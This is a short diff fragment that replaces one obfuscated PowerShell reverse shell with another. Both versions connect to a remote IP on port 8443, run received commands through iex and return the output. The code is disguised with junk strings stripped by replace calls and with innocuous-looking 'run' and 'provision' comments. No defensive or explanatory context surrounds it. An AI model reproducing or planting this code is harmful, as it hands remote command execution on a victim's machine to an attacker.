@@ -1,3 +1,3 @@
-iex (('# run 0205 v4
-$client = New-qx~0bjQQX80ect System.Net.SockQQX80ets.TCPClient(''198.51.100.23'',8443);$stream = $client.GetQQX80Stream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-qx~0bject -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | qx~0ut-String );$sendback2 = $sendback + ''PS '' + (pwd).Path + ''> '';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$streaQQX80m.Flush()};$client.Close()
-' -replace 'QQX80','').Replace('qx~0','O'))
+iex (('# provision 8405 v4
+$client = New-Object System.Net.SocketVZZ14s.Tvv~5Pvv~5lient(''192.0.2.150'',8443);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.LVZZ14ength)) -ne 0){;$data = (New-Object -TypeName System.Text.ASvv~5IIEncoding).GetString($bytes,0, $i);$sendback =VZZ14 (iex $data 2>&1 | Out-String );$sendback2 = $sendback + ''PS '' + (pwd).Path + ''> '';$sendbyte = ([text.encoding]::ASvv~5II).GetBytes($senVZZ14dback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$clVZZ14ient.vv~5lose()
+' -replace 'VZZ14','').Replace('vv~5','C'))
